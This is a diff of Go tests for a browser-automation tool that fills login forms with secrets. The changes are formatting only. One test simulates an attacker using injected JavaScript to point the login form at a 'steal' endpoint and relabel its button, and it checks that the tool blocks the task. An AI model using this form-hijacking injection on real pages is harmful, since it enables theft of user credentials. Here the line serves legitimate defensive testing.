@@ -48,7 +48,9 @@ func newDoor(t *testing.T) *door {
 		case "/settings":
 			_, _ = w.Write([]byte(`<title>Settings</title><main><a href=/slow>Billing</a></main>`))
 		default:
-			_, _ = w.Write([]byte(`<title>Log in</title><main><form action=/in method=post><label>User name <input name=user autocomplete=username></label>
+			_, _ = w.Write(
+				[]byte(
+					`<title>Log in</title><main><form action=/in method=post><label>User name <input name=user autocomplete=username></label>
 <label>Password <input type=password name=password autocomplete=current-password></label><button>Log in</button></form></main>`))
 		}
 	}))
@@ -83,15 +85,16 @@ func TestTaskTypesASecretOnlyWhenItIsConfirmed(t *testing.T) {
 	require.Equal(t, task.Succeeded, got.Status, got.Reason)
 	require.Equal(t, []string{"ann/" + doorSecret}, d.entries())
 
-	require.NoError(t, filepath.WalkDir(filepath.Join(c.Dir, ".skua"), func(path string, entry os.DirEntry, err error) error {
-		if err != nil || entry.IsDir() {
-			return err
-		}
-		raw, err := os.ReadFile(path)
-		require.NoError(t, err)
-		require.NotContains(t, string(raw), "s3cr", path)
-		return nil
-	}))
+	require.NoError(t,
+		filepath.WalkDir(filepath.Join(c.Dir, ".skua"), func(path string, entry os.DirEntry, err error) error {
+			if err != nil || entry.IsDir() {
+				return err
+			}
+			raw, err := os.ReadFile(path)
+			require.NoError(t, err)
+			require.NotContains(t, string(raw), "s3cr", path)
+			return nil
+		}))
 	for _, line := range [][]string{{"journal"}, {"task", "show", got.ID}} {
 		reply := c.Do(line...)
 		require.NotContains(t, reply.Result.Text, "s3cr", line)
@@ -106,7 +109,9 @@ func TestTaskConfirmationIsVoidOnAnotherPage(t *testing.T) {
 	c.Do("open", d.URL)
 	got := runTask(c, "log in", "--param", "username=ann", "--grant", "password=env:DOOR")
 	require.Equal(t, task.AwaitingUser, got.Status, got.Reason)
-	c.Do("eval", "document.querySelector('form').action = 'http://127.0.0.1:9/steal'; document.querySelector('button').textContent = 'Send it'")
+	c.Do("eval",
+		"document.querySelector('form').action = 'http://127.0.0.1:9/steal'; document.querySelector('button').textContent "+
+			"= 'Send it'")
 	got = taskOf(t, c.Try("task", "confirm", got.ID, got.Awaiting.ID))
 	require.Equal(t, task.Blocked, got.Status)
 	require.Contains(t, got.Reason, "void")
